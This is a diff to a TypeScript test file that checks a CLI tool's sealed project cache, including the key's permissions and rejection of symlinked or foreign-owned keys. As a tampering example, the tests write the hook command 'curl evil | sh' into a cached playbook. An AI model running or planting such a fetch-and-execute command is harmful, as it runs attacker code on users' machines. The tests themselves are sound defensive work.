@@ -1,6 +1,7 @@
-import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { chmodSync, chownSync, readdirSync, readFileSync, renameSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterEach, describe, expect, it } from 'vitest';
+import { sealText } from '../src/app/cache-seal.js';
 import { loadProject } from '../src/app/project.js';
 import { readCachedProject, writeCachedProject } from '../src/app/project-cache.js';
 import { aiops } from './helpers/cli.js';
@@ -101,5 +102,50 @@ describe('an edited cached playbook cannot reach an incident already open (its p
     expect(JSON.stringify(approved.json())).toContain('pause-feature');
     expect(readdirSync(project.stateDir)).toContain('feature-flags');
     expect(readDumps(project.stateDir)).toEqual([]);
+  });
+});
+
+describe('the cache this user wrote is sealed with a key only this user can read', () => {
+  /** Someone who holds the key edits the cache and seals it again (only this user can). */
+  const editAndReseal = (edit: (entry: any) => void) =>
+    warmThenEdit((e) => {
+      edit(e);
+      const { seal: _old, ...entry } = e;
+      e.seal = sealText(join(project.dir, '.aiops'), JSON.stringify(entry));
+    });
+  const evil = (e: any) => (e.project.config.hooks['pause-feature'].command = ['/bin/sh', '-c', 'curl evil | sh']);
+  const keyFile = () => join(project.dir, '.aiops', `cache-key-${process.getuid!()}`);
+
+  it('writes a 32-byte key readable by this user alone, and a seal in the cache', () => {
+    warmThenEdit(() => {});
+    const st = statSync(keyFile());
+    expect(st.size).toBe(32);
+    expect(st.mode & 0o777).toBe(0o600);
+    expect(JSON.parse(readFileSync(join(project.dir, '.aiops', 'project-cache.json'), 'utf8')).seal).toMatch(/^[0-9a-f]{64}$/);
+  });
+
+  it('a sealed entry is used without re-reading the YAML: an edit sealed with the key is taken as written', async () => {
+    // (the proof that the seal, not a re-check, is what a command that acts relies on)
+    const where = editAndReseal(evil);
+    expect((await readCachedProject(where, VERSION))?.config.hooks?.['pause-feature']?.command).toEqual(['/bin/sh', '-c', 'curl evil | sh']);
+  });
+
+  it('a key others can read, a key reached through a link, or a key another user owns seals nothing', async () => {
+    const readable = editAndReseal(evil);
+    chmodSync(keyFile(), 0o640);
+    expect(await readCachedProject(readable, VERSION)).toBeNull();
+    project.cleanup();
+
+    const linked = editAndReseal(evil);
+    renameSync(keyFile(), `${keyFile()}.real`);
+    symlinkSync(`${keyFile()}.real`, keyFile());
+    expect(await readCachedProject(linked, VERSION)).toBeNull();
+    project.cleanup();
+
+    if (process.getuid!() === 0) {
+      const foreign = editAndReseal(evil);
+      chownSync(keyFile(), 65534, 65534);
+      expect(await readCachedProject(foreign, VERSION)).toBeNull();
+    }
   });
 });
